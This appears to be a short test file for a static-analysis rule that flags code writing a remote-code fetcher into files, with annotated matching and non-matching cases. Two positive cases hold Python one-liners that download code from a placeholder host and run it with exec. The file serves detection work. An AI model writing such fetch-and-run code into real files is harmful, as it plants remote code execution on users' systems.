# ruleid: remote-code-writes-fetcher
handle.write(b"import urllib.request as u;exec(u.urlopen('https://a.invalid/p').read())")
# ruleid: remote-code-writes-fetcher
path.write_text("""import requests
exec(requests.get('https://a.invalid/p').text)
""")
# ok: remote-code-writes-fetcher
handle.write("exec is a function of Python")
# ok: remote-code-writes-fetcher
handle.write(urlopen("https://a.invalid/data.json").read())
